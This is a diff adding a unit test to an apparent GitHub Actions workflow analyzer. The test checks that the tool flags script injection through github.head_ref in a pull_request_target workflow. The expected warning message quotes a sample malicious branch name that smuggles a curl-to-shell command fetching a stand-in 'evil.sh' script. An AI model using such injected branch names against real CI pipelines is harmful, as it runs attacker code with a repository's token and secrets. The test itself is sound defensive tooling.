@@ -63,6 +63,36 @@ describe("workflowAnalyzer", () => {
     expect(await review(added("injection.good.yml"))).toEqual({ findings: [], notes: [] });
   });
 
+  it("on pull_request_target flags github.head_ref (the author's branch name), not github.base_ref (an upstream branch)", async () => {
+    const workflow = [
+      "on: pull_request_target",
+      "permissions:",
+      "  contents: read",
+      "jobs:",
+      "  label:",
+      "    runs-on: ubuntu-latest",
+      "    steps:",
+      "      - run: |",
+      `          echo "merging \${{ github.head_ref }}"`,
+      `          git diff --stat "origin/\${{ github.base_ref }}"`,
+      "",
+    ].join("\n");
+    const { findings } = await review(addedFile(path, workflow));
+    expect(
+      findings.map((finding) => [finding.ruleId, finding.line, finding.subject, finding.message]),
+    ).toEqual([
+      [
+        "gha/script-injection",
+        9,
+        "label.steps[0] github.head_ref",
+        `\`\${{ github.head_ref }}\` is pasted into the \`run:\` source before it runs, and \`github.head_ref\` is the ` +
+          "pull request's branch name, which whoever opens the PR picks (from a fork too): a branch named " +
+          '`x";curl$IFS"evil.sh"|sh;#` becomes code with this job\'s token and secrets. Pass it through `env:` ' +
+          `(\`HEAD_REF: \${{ github.head_ref }}\`) and read \`"$HEAD_REF"\`.`,
+      ],
+    ]);
+  });
+
   it("flags actions, reusable workflows and images not pinned to a SHA/digest; GitHub's own as minor", async () => {
     const { findings } = await review(added("unpinned.bad.yml"));
     expect(
